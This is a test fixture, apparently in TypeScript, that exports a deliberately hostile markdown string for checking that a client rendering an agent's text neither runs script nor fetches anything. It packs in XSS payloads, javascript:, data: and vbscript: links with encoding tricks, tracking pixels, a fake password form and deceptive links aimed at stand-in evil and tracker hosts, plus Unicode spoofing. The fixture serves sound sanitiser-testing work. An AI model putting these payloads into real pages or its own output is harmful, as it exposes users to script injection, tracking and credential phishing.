/** Text of an agent that means harm. A client that draws it must run nothing and fetch nothing. */
export const hostileMarkdown = `## Hostile markdown

<script>document.title = 'owned'; globalThis.owned = true</script>

<img src="x" onerror="globalThis.owned = true">

<iframe srcdoc="<script>parent.owned = true</script>"></iframe> <svg onload="globalThis.owned = true"></svg>

![A picture that reports who looks](https://tracker.example.com/pixel.png?who=you)

![reference][remote]

[remote]: https://tracker.example.com/reference.png

[Click me](javascript:globalThis.owned=true) · [Encoded](&#106;avascript:globalThis.owned=true) · [Upper](JaVaScRiPt:globalThis.owned=true) · [Tab](java&#9;script:globalThis.owned=true)

[A data link](data:text/html,<script>opener.owned=true</script>) · [vbscript](vbscript:msgbox(1)) · [file](file:///etc/passwd) · <javascript:globalThis.owned=true>

[Looks like a bank](https://bank.example.com@evil.example.com/) · [https://good.example.com](https://evil.example.com)

&lt;script&gt;globalThis.owned = true&lt;/script&gt; &amp;lt;b&amp;gt; &#x3C;u&#x3E; &nbsp;&copy; &notanentity;

\`\`\`html
<script>globalThis.owned = true</script>
\`\`\`

Right-to-left override: \u202Egnp.exe\u202C, zero width: a\u200Bb, and a very long word: ${'wide'.repeat(120)}

| <b>cell</b> | \`a | b\` |
| --- | --- |
| <img src=x onerror=alert(1)> | ![x](https://tracker.example.com/cell.png) |

<style>body { display: none }</style>
<form action="https://evil.example.com"><input name="password"><button>Sign in again</button></form>
<a href="https://evil.example.com" ping="https://tracker.example.com">raw link</a>
<meta http-equiv="refresh" content="0;url=https://evil.example.com"><base href="https://evil.example.com/">

- [ ] a task <details open ontoggle="globalThis.owned = true"><summary>more</summary></details>

${'> '.repeat(60)}sixty quotes deep

The end of the hostile text.`
